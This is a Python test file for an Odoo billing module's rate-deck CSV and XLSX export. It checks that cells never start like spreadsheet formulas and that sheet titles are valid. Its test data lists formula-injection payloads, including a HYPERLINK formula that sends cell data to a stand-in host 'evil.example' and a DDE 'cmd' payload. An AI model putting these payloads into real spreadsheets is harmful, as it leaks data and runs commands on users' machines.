# Copyright 2026 Metered Billing contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Decks in a spreadsheet program: no text of a carrier is a formula."""

import csv
import io
import re
import tempfile
from pathlib import Path
from unittest import TestCase

import openpyxl
from hypothesis import example, given, settings
from hypothesis import strategies as st

from odoo.addons.metered_billing.deck_files import (
    parse_deck,
    read_rows,
    write_csv,
    write_xlsx,
)
from odoo.addons.metered_billing.deck_files.sheet_texts import (
    MOST_CHARACTERS,
    plain_text,
    safe_text,
    sheet_title,
)
from odoo.addons.metered_billing.deck_files.write import HEADER

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "＝1+1",
    "+cmd|' /C calc'!A0",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "'=1+1",
    "=911",
)
ODD = st.text(st.sampled_from("=+-@'\"\t\r\n;, a1é＝\u00a0"), max_size=12)


def row(**values):
    names = {name.replace("_", " "): value for name, value in values.items()}
    return [names.get(name, "") for name in HEADER]


class TestSheetTexts(TestCase):
    def cells(self, content):
        """As a spreadsheet program sees them, whatever separates its columns."""
        text = content.decode()
        for delimiter in ",;\t":
            for cells in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                yield from cells

    def rates_of(self, content):
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder, "deck")
            path.write_bytes(content)
            rates, problems = parse_deck(read_rows(path))
        self.assertFalse(problems)
        return rates

    def test_no_formula_in_csv(self):
        rows = [row(prefix=f"44{n}", name=f, price="1") for n, f in enumerate(FORMULAS)]
        rows.append(row(prefix="=911", price="0", valid_from="2026-10-01"))
        content = write_csv(rows)
        for cell in self.cells(content):
            self.assertNotRegex(cell, re.compile(r"^[\s\"]*[=+@＝-](?![\d.]+$)"))
        rates = self.rates_of(content)
        # Texts are read without blanks around them, from whatever file.
        self.assertEqual(rates["name"].tolist()[:-1], [f.strip() for f in FORMULAS])
        self.assertEqual(rates["prefix"].tolist()[-1], "=911")

    @settings(max_examples=500, deadline=None, derandomize=True)
    @given(st.text("=+-@＝;\t\r\n \"'a1", max_size=12))
    @example("\t" * MOST_CHARACTERS)
    @example(';"' * (MOST_CHARACTERS // 2))
    @example("\t'" * (MOST_CHARACTERS // 2))
    @example("' " * (MOST_CHARACTERS // 2))
    def test_every_text_is_the_same_again(self, text):
        """A text of tabs alone would take hours, were each looked at from the next."""
        self.assertEqual(plain_text(safe_text(text)), text)

    def test_numbers_stay_numbers(self):
        for number in ("-1.5", "+44", "0.02", "-1e3", "12025550101"):
            self.assertEqual(safe_text(number), number)
        line = write_csv([row(prefix="44", price="0.02", per_seconds="60")])
        self.assertIn(b"44,,,,0.02,60,", line)

    @given(ODD)
    def test_reading_takes_away_what_writing_adds(self, text):
        self.assertEqual(plain_text(safe_text(text)), text)

    @given(ODD)
    def test_no_cell_begins_like_a_formula(self, text):
        for part in re.split(r"[;\t\r\n]", safe_text(text)):
            if part != text or not re.fullmatch(r"[+-]?\d+", text):
                self.assertNotRegex(part, r"^[\s\"]*[=+\-@＝]")

    def test_workbooks_hold_texts(self):
        rows = [row(prefix=f"44{n}", name=f, price="1") for n, f in enumerate(FORMULAS)]
        content = write_xlsx(rows, "A-Z")
        sheet = openpyxl.load_workbook(io.BytesIO(content))["A-Z"]
        for cells in sheet.iter_rows(min_row=2):
            self.assertEqual({cell.data_type for cell in cells} - {"s", "n"}, set())
        rates = self.rates_of(content)
        self.assertEqual(rates["name"].tolist(), [f.strip() for f in FORMULAS])

    def test_export_of_an_import_of_an_export(self):
        rows = [
            row(prefix="44", name="=1", price="0.02", next_increment="6"),
            row(prefix="45", name="'=1", price="0.00000001", valid_before="2027-01-01"),
            row(prefix="=911", name="'x'", price="0", call_type="-a", time_band="@b"),
            row(
                prefix="*",
                name="a;=x",
                price="9",
                tiers="60: 0.02/60 6; 600: 0.01/60 6",
            ),
        ]
        again = [write_csv(rows), write_csv(rows, packed=True), write_xlsx(rows, "x")]
        first, *others = map(self.rates_of, again)
        for rates in others:
            self.assertTrue(
                rates.drop(columns="line").equals(first.drop(columns="line"))
            )
        self.assertEqual(first["name"].tolist(), ["=1", "'=1", "'x'", "a;=x"])
        self.assertEqual(first["call_type"].tolist()[2], "-a")
        self.assertEqual(first["band"].tolist()[2], "@b")

    def test_titles(self):
        for title in (
            *("Columns", "columns ", "'x'", "''", "", "[]:*?/\\", "History", "x" * 99),
            *("😀" * 31, "a\0b", "\ud800", "Columns" + " " * 40, "'" + "x" * 40 + "'"),
            *("x" * 30 + "'y", "Rates/2026:[new]", "\x1f", "\uffff", " a ", "\n"),
        ):
            with self.subTest(ascii(title)):
                content = write_xlsx([row(prefix="44", price="1")], title)
                book = openpyxl.load_workbook(io.BytesIO(content))
                self.assertEqual(len(book.sheetnames), 2)
                name = book.sheetnames[0]
                self.assertLessEqual(len(name.encode("utf-16-le")), 62)
                self.assertNotRegex(name, r"[\[\]:*?/\\]|^'|'$|^$")
        taken = []
        for _time in range(12):
            taken.append(sheet_title("x" * 40, "Rates", taken))
        self.assertEqual(len({name.lower() for name in taken}), 12)
        self.assertEqual(sheet_title("", "Rates", ["rates"]), "Rates (2)")
